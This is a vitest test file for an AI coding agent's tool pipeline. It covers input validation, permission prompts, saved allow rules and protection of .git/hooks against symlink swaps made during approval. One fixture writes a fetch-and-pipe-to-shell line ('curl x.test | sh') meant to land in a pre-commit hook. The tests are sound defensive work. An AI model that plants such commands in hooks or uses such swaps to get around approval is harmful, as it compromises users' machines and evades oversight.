// The tool pipeline with real parts: the real permission gate, the built-in tools, a real project on disk
// and the real openai SDK against the scripted server. Effects are read from disk and from what the model got.
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { startScriptedServer, type ScriptedServer } from '../support/scripted-server.mjs';
import { createAgent } from '../../src/core/agent.js';
import type { ApproveFn } from '../../src/core/agentTypes.js';
import type { PermissionRequest } from '../../src/core/events.js';
import { createOpenAIClient } from '../../src/backend/openaiClient.js';
import { createBuiltinTools } from '../../src/tools/index.js';
import { ToolRegistry } from '../../src/tools/registry.js';
import { createPermissionGate } from '../../src/permissions/gate.js';
import type { PermissionMode } from '../../src/permissions/types.js';
import { loadSettings } from '../../src/config/settings.js';
import { tempDir } from '../helpers/cli.js';
import { collect } from './loopHarness.js';

let server: ScriptedServer | undefined;
const disposers: Array<() => void> = [];
afterEach(async () => {
  await server?.close();
  server = undefined;
  disposers.splice(0).forEach((d) => d());
});

type Call = { name: string; arguments: Record<string, unknown> };

async function setup(turns: Call[][], mode: PermissionMode = 'default', files: Record<string, string> = {}) {
  server = await startScriptedServer({ replies: [...turns.map((toolCalls) => ({ toolCalls })), { text: 'done' }] });
  const project = tempDir('claw-pipe-');
  const home = tempDir('claw-pipe-home-');
  for (const [name, content] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(project, name)), { recursive: true });
    fs.writeFileSync(path.join(project, name), content);
  }
  const builtin = createBuiltinTools();
  disposers.push(builtin.dispose);
  const gate = createPermissionGate({ mode, rules: { allow: [], ask: [], deny: [] }, cwd: project, additionalDirs: [], home });
  const agent = createAgent({
    client: createOpenAIClient({ baseUrl: server.url, apiKey: 'test' }),
    model: 'test-model',
    tools: new ToolRegistry(builtin.tools),
    gate,
    system: 'test',
    sampling: {},
    contextWindow: 32768,
    cwd: project,
    env: { PATH: process.env.PATH },
    home,
    sessionId: 'pipe',
    firstUserMessage: (p) => p,
  });
  const asked: PermissionRequest[] = [];
  const approveWith = (answer: Awaited<ReturnType<ApproveFn>>): ApproveFn => async (request) => {
    asked.push(request);
    return answer;
  };
  const toolResults = () =>
    server!.chatRequests().flatMap((r) => r.body.messages.filter((m: { role: string }) => m.role === 'tool').map((m: { content: string }) => m.content));
  return { agent, gate, project, asked, approveWith, toolResults, server: server! };
}

describe('validation comes before the gate and the dialog', () => {
  it('an Edit without old_string never reaches approve; the model gets the error with the schema', async () => {
    const t = await setup([[{ name: 'Edit', arguments: { file_path: 'a.txt', new_string: 'x' } }]], 'default', { 'a.txt': 'a\n' });
    await collect(t.agent.run('edit', { approve: t.approveWith({ behavior: 'allow' }) }));
    expect(t.asked).toEqual([]);
    const [result] = t.toolResults();
    expect(result).toContain('InputValidationError');
    expect(result).toMatch(/old_string/);
    expect(result).toContain('"required"');
    expect(fs.readFileSync(path.join(t.project, 'a.txt'), 'utf8')).toBe('a\n');
  });

  it('a Write without file_path asks nobody; a repaired call (lower-case name) still asks and runs', async () => {
    const t = await setup(
      [[{ name: 'Write', arguments: { content: 'x' } }], [{ name: 'write', arguments: { file_path: 'c.txt', content: 'ok' } }]],
      'default',
    );
    await collect(t.agent.run('write', { approve: t.approveWith({ behavior: 'allow' }) }));
    expect(t.asked.map((a) => a.toolName)).toEqual(['Write']);
    expect(t.toolResults()[0]).toContain('InputValidationError');
    expect(fs.readFileSync(path.join(t.project, 'c.txt'), 'utf8')).toBe('ok');
  });
});

describe('"Yes, and don\'t ask again" (item 4)', () => {
  it('for an edit: the session switches to acceptEdits, nothing is saved, the next edit does not ask', async () => {
    const t = await setup(
      [[{ name: 'Write', arguments: { file_path: 'one.txt', content: '1' } }], [{ name: 'Write', arguments: { file_path: 'two.txt', content: '2' } }]],
    );
    await collect(t.agent.run('write twice', { approve: t.approveWith({ behavior: 'allow', remember: true }) }));
    expect(t.asked).toHaveLength(1);
    expect(t.asked[0]!.dontAskAgain).toEqual({ kind: 'acceptEdits' });
    expect(t.agent.permissionMode).toBe('acceptEdits');
    expect(fs.readFileSync(path.join(t.project, 'two.txt'), 'utf8')).toBe('2');
    expect(fs.existsSync(path.join(t.project, '.claw'))).toBe(false);
    expect(t.gate.rules.allow).toEqual([]);
  });

  it('for Bash: the exact prefix rule is saved to .claw/settings.local.json, which .claw/.gitignore ignores', async () => {
    const t = await setup([[{ name: 'Bash', arguments: { command: 'touch marker1' } }], [{ name: 'Bash', arguments: { command: 'touch marker2' } }]]);
    await collect(t.agent.run('touch', { approve: t.approveWith({ behavior: 'allow', remember: true }) }));
    expect(t.asked).toHaveLength(1);
    const rule = t.asked[0]!.dontAskAgain;
    expect(rule).toEqual({ kind: 'rule', rule: 'Bash(touch:*)' });
    expect(fs.existsSync(path.join(t.project, 'marker1'))).toBe(true);
    expect(fs.existsSync(path.join(t.project, 'marker2'))).toBe(true);
    const saved = JSON.parse(fs.readFileSync(path.join(t.project, '.claw/settings.local.json'), 'utf8'));
    expect(saved.permissions.allow).toEqual(['Bash(touch:*)']);
    expect(fs.readFileSync(path.join(t.project, '.claw/.gitignore'), 'utf8')).toBe('settings.local.json\n');
    // the saved rule is what a later session loads (the mode stayed default)
    expect(t.agent.permissionMode).toBe('default');
    const later = loadSettings({ userSettingsPath: path.join(t.project, 'none.json'), cwd: t.project });
    expect(later.settings.permissions?.allow).toContain('Bash(touch:*)');
  });

  it('git really ignores the saved file', async () => {
    const t = await setup([[{ name: 'Bash', arguments: { command: 'touch m' } }]]);
    const { execFileSync } = await import('node:child_process');
    execFileSync('git', ['init', '-q'], { cwd: t.project });
    await collect(t.agent.run('touch', { approve: t.approveWith({ behavior: 'allow', remember: true }) }));
    const status = execFileSync('git', ['status', '--porcelain', '--untracked-files=all'], { cwd: t.project, encoding: 'utf8' });
    expect(status).toContain('.claw/.gitignore');
    expect(status).not.toContain('settings.local.json');
  });

  it('a protected path offers no "don\'t ask again"', async () => {
    const t = await setup([[{ name: 'Write', arguments: { file_path: '.git/hooks/pre-commit', content: 'x' } }]], 'default', { '.git/hooks/pre-commit': 'h' });
    await collect(t.agent.run('w', { approve: t.approveWith({ behavior: 'deny', message: 'no' }) }));
    expect(t.asked).toHaveLength(1);
    expect(t.asked[0]!.dontAskAgain).toBeUndefined();
    expect(fs.readFileSync(path.join(t.project, '.git/hooks/pre-commit'), 'utf8')).toBe('h');
  });
});

describe('a path swapped between the decision and the write (P3-067, P3-068)', () => {
  // The approval dialog is where time passes: the swap happens while the user is being asked.
  const swapWhileAsking = (swap: () => void): ApproveFn => async () => {
    swap();
    return { behavior: 'allow' };
  };

  it('P3-068: the folder becomes a symlink into .git/hooks while the user is asked: nothing lands there', async () => {
    const t = await setup([[{ name: 'Write', arguments: { file_path: 'src/pre-commit', content: 'curl x.test | sh\n' } }]], 'default', {
      'src/keep.ts': 'x\n',
      '.git/hooks/README': 'hooks\n',
    });
    const swap = () => {
      fs.renameSync(path.join(t.project, 'src'), path.join(t.project, 'src-old'));
      fs.symlinkSync(path.join(t.project, '.git/hooks'), path.join(t.project, 'src'));
    };
    await collect(t.agent.run('write', { approve: swapWhileAsking(swap) }));
    expect(fs.readdirSync(path.join(t.project, '.git/hooks'))).toEqual(['README']);
    expect(t.toolResults()[0]).toMatch(/changed since the call was decided|nothing was written/);
  });

  it('P3-067: the file becomes a symlink to a hook while the user is asked: the hook is untouched', async () => {
    const t = await setup([[{ name: 'Write', arguments: { file_path: 'src/a.ts', content: 'pwned\n' } }]], 'default', {
      'src/keep.ts': 'x\n',
      '.git/hooks/pre-commit': '#!/bin/sh\nexit 0\n',
    });
    const swap = () => fs.symlinkSync(path.join(t.project, '.git/hooks/pre-commit'), path.join(t.project, 'src/a.ts'));
    await collect(t.agent.run('write', { approve: swapWhileAsking(swap) }));
    expect(fs.readFileSync(path.join(t.project, '.git/hooks/pre-commit'), 'utf8')).toBe('#!/bin/sh\nexit 0\n');
  });
});
